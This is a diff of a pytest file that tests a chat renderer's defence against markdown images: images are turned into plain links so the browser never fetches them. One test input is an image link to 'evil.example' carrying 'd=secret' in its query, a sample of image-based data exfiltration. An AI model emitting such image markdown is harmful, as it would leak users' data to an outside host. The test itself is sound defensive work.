@@ -4,7 +4,7 @@ from __future__ import annotations
 
 import pytest
 
-from webapp.render import display, wrap_boxed
+from webapp.chat.render import display, wrap_boxed
 
 
 @pytest.mark.parametrize(
@@ -23,7 +23,7 @@ from webapp.render import display, wrap_boxed
         ("\\boxed{unclosed", "\\boxed{unclosed"),
         # Images are never fetched by the viewer's browser: they become links to what they show.
         ("![x](https://evil.example/?d=secret)", "[🖼 x](https://evil.example/?d=secret)"),
-        ("see ![](http://e.example/a.png \"t\") now", 'see [🖼 image](http://e.example/a.png "t") now'),
+        ('see ![](http://e.example/a.png "t") now', 'see [🖼 image](http://e.example/a.png "t") now'),
         ("![logo][1]\n\n[1]: https://e.example/l.png", "[🖼 logo][1]\n\n[1]: https://e.example/l.png"),
         ("`![x](https://e.example/)` is code", "`![x](https://e.example/)` is code"),  # code stays verbatim
         ("wow! [a](b)", "wow! [a](b)"),  # an exclamation before a link is not an image
